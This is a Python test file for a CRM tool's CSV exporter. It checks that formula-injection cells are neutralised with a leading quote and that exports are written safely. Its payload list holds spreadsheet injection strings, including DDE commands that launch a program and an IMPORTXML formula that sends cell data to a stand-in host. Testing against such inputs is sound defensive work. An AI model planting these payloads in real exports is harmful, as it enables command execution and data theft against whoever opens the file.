"""CSV export: formula injection is neutralised, files are streamed and well-formed."""

import csv
import io

import pytest

from crm_tui.importing.csvread import open_csv
from crm_tui.importing.csvwrite import SafeCsvWriter, cell_text, neutralise, write_csv

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1+1",
    "@foo",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_get_a_leading_quote(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise(payload, numeric_ok=True) == "'" + payload


@pytest.mark.parametrize("value", ["-12.5", "-3", "-0.001"])
def test_plain_negative_numbers_stay_numeric_only_when_allowed(value):
    assert neutralise(value, numeric_ok=True) == value
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-1e5", "-12.5.3", "- 12", "-12,5", "-12.5 ", "+12"])
def test_number_lookalikes_are_not_numeric(value):
    assert neutralise(value, numeric_ok=True) == "'" + value


@pytest.mark.parametrize("value, expected", [
    ("Ann", "Ann"), ("", ""), (None, ""), (12, "12"), (-12.5, "-12.5"), (3.0, "3"), (True, "true"),
    ("a=b", "a=b"), (" =1", " =1"), ("x-y", "x-y"),
])
def test_harmless_cells_are_unchanged(value, expected):
    assert neutralise(value, numeric_ok=isinstance(value, (int, float))) == expected


def test_negative_float_in_a_text_column_is_still_neutralised():
    assert neutralise(-12.5) == "'-12.5"
    assert cell_text(-12.5) == "-12.5"


def test_writer_streams_rows_and_neutralises_headers(tmp_path):
    path = tmp_path / "export.csv"
    rows = ({"Name": payload, "Amount": -i - 0.5, "Note": "multi\nline, with \"quotes\""}
            for i, payload in enumerate(PAYLOADS))
    count = write_csv(path, ["Name", "Amount", "=Note"], ({**r, "=Note": r["Note"]} for r in rows),
                      numeric_columns={"Amount"})
    assert count == len(PAYLOADS)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel then reads UTF-8
    assert b"\r\n" in raw
    with open(path, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    assert table[0] == ["Name", "Amount", "'=Note"]
    assert [row[0] for row in table[1:]] == ["'" + p for p in PAYLOADS]
    assert [row[1] for row in table[1:]] == [str(-i - 0.5) for i in range(len(PAYLOADS))]
    assert table[1][2] == 'multi\nline, with "quotes"'
    assert not (tmp_path / "export.csv.part").exists()


def test_exported_file_reads_back_with_our_reader(tmp_path):
    path = tmp_path / "export.csv"
    write_csv(path, ["Name", "City"], [["Zoë", "Zürich"], ("Bob", None)])
    source = open_csv(path)
    assert source.encoding == "utf-8-sig"
    assert [row for _line, row in source] == [{"Name": "Zoë", "City": "Zürich"}, {"Name": "Bob", "City": ""}]


def test_failed_export_leaves_no_file(tmp_path):
    path = tmp_path / "export.csv"

    def rows():
        yield ["ok"]
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        write_csv(path, ["Name"], rows())
    assert not path.exists() and not (tmp_path / "export.csv.part").exists()


def test_writer_on_a_stream_with_semicolons():
    stream = io.StringIO(newline="")
    writer = SafeCsvWriter(stream, ["Name", "Amount"], numeric_columns=["Amount"], delimiter=";")
    writer.writerow(["a;b", -1])
    writer.writerow({"Amount": "-2+3", "Name": "@x"})
    assert writer.rows_written == 2
    assert stream.getvalue() == 'Name;Amount\r\n"a;b";-1\r\n\'@x;\'-2+3\r\n'
